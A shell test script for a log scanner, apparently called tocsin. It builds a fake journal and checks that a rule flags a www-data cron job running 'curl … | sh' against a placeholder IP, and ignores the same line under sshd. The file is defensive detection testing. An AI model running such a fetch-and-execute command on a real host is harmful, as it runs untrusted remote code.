# Lines of the journal belong to the program that wrote them, and rules reach their text as `message`.
entry() {
	printf '{"__REALTIME_TIMESTAMP":"1777776411000000","_HOSTNAME":"web01","SYSLOG_IDENTIFIER":"%s","MESSAGE":"%s"}\n' "$@"
}
{
	entry CRON '(www-data) CMD (curl -s http://198.51.100.23/a | sh)'
	entry CRON '(www-data) CMD (php /var/www/shop/bin/console cron:run)'
	entry sshd '(www-data) CMD (curl -s http://198.51.100.23/a | sh)'
} >journal.json
"$tocsin" scan -q -o jsonl journal.json >out
test "$(jq -r '"\(.record) \(.rule_file | sub(".*/"; ""))"' out)" = '1 cron_job_downloads_and_runs_code.yml'
